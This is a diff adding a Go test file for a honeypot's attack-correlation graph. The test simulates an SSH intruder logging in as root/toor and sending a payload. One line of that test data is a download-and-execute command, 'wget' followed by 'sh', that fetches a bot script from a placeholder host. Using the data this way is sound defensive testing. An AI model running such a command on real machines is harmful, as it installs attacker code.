@@ -0,0 +1,113 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package graph
+
+import (
+	"net"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+func source(ip string) event.Option {
+	return event.SourceAddr(&net.TCPAddr{IP: net.ParseIP(ip), Port: 1234})
+}
+
+func hasEdge(g Graph, from, to string) bool {
+	for _, e := range g.Edges {
+		if e.Source == from && e.Target == to {
+			return true
+		}
+	}
+
+	return false
+}
+
+func TestCorrelate(t *testing.T) {
+	c := New()
+
+	c.Send(event.New(
+		event.Service("ssh"),
+		source("192.0.2.1"),
+		event.Custom("ssh.username", "root"),
+		event.Custom("ssh.password", "toor"),
+	))
+
+	update := c.Correlate(event.New(
+		event.Service("ssh"),
+		source("192.0.2.1"),
+		event.Payload([]byte("wget http://198.51.100.1/bot.sh; sh bot.sh")),
+	))
+
+	if update.Empty() {
+		t.Fatal("Expected update of the graph")
+	}
+
+	// another source on the same service
+	c.Send(event.New(
+		event.Service("ssh"),
+		source("192.0.2.2"),
+		event.Payload([]byte("uname -a")),
+	))
+
+	g := c.Graph("192.0.2.1")
+
+	if !hasEdge(g, "source:192.0.2.1", "service:ssh") {
+		t.Errorf("Expected edge from source to service, got %v", g.Edges)
+	}
+
+	if !hasEdge(g, "service:ssh", "credential:root:toor") {
+		t.Errorf("Expected edge from service to credential, got %v", g.Edges)
+	}
+
+	found := false
+	for _, n := range g.Nodes {
+		if n.Kind == KindURL && n.Label == "http://198.51.100.1/bot.sh" {
+			found = true
+		}
+
+		if n.Kind == KindPayload && n.Label == "uname -a" {
+			t.Error("Expected payload of other source to be excluded")
+		}
+	}
+
+	if !found {
+		t.Errorf("Expected url node, got %v", g.Nodes)
+	}
+
+	if len(c.Graph("").Nodes) != len(g.Nodes)+2 {
+		t.Errorf("Expected full graph to contain all sources, got %v", c.Graph("").Nodes)
+	}
+}
+
+func TestExpire(t *testing.T) {
+	now := time.Date(2019, 1, 2, 10, 30, 0, 0, time.UTC)
+
+	c := New()
+	c.now = func() time.Time { return now }
+
+	c.Send(event.New(event.Service("ssh"), source("192.0.2.1")))
+
+	now = now.Add(DefaultRetention + time.Hour)
+	c.Send(event.New(event.Service("telnet"), source("192.0.2.2")))
+
+	if g := c.Graph("192.0.2.1"); !g.Empty() {
+		t.Errorf("Expected expired source, got %v", g.Nodes)
+	}
+
+	if g := c.Graph(""); len(g.Nodes) != 2 || len(g.Edges) != 1 {
+		t.Errorf("Expected only the recent path, got %v", g)
+	}
+}